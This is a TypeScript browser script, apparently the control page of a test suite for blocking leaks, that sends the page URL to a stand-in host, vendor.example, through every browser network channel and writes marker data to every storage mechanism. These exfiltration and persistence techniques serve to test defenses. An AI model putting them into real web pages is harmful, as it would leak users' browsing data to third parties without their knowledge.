/** The control of the suite: a page that sends and keeps by every way that a script has, each under a name to find it by. */
const elsewhere = 'http://vendor.example';
const secret = encodeURIComponent(location.href);

function send(): void {
  const quiet = { mode: 'no-cors', credentials: 'omit' } as const;
  void fetch(`${elsewhere}/fetch-url?u=${secret}`, quiet);
  void fetch(`${elsewhere}/fetch-body`, { ...quiet, method: 'POST', body: `body ${location.href}` });
  void fetch('/api/header', { headers: { 'x-leak': secret } });
  void fetch('/api/referer', { referrerPolicy: 'unsafe-url' });
  navigator.sendBeacon(`${elsewhere}/beacon`, location.href);
  new Image().src = `${elsewhere}/image?u=${secret}`;
  const frame = document.createElement('iframe');
  frame.src = `${elsewhere}/frame?u=${secret}`;
  document.body.append(frame);
  const sheet = document.createElement('link');
  Object.assign(sheet, { rel: 'stylesheet', href: `${elsewhere}/style?u=${secret}` });
  document.head.append(sheet);
  const socket = new WebSocket('ws://vendor.example/socket');
  socket.addEventListener('error', () => undefined);
  const xhr = new XMLHttpRequest();
  xhr.open('POST', '/api/xhr');
  xhr.send(btoa(`x${location.href}`));
  new EventSource(`${elsewhere}/stream?u=${secret}`).addEventListener('error', ({ target }) =>
    (target as EventSource).close(),
  );
  const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${elsewhere}/worker', { mode: 'no-cors' })`])));
  worker.addEventListener('error', () => undefined);
  window.addEventListener('pagehide', () => void fetch(`${elsewhere}/pagehide`, { ...quiet, keepalive: true }));
}

const openDatabase = (): Promise<void> =>
  new Promise((resolve) => {
    const opening = indexedDB.open('leaky', 1);
    opening.addEventListener('upgradeneeded', () => void opening.result.createObjectStore('all').put('kept', 'key'));
    opening.addEventListener('success', () => {
      opening.result.close();
      resolve();
    });
  });

async function keep(): Promise<void> {
  await cookieStore.set('leaky', '1');
  localStorage.setItem('leaky', '1');
  sessionStorage.setItem('leaky', '1');
  window.name = 'leaky';
  history.replaceState('leaky', '');
  await openDatabase();
  await caches.open('leaky');
  await (await navigator.storage.getDirectory()).getFileHandle('leaky', { create: true });
  await navigator.serviceWorker.register('/assets/idle.js', { scope: '/assets/', type: 'module' });
}

send();
await keep();
document.documentElement.dataset['ran'] = 'leaky';
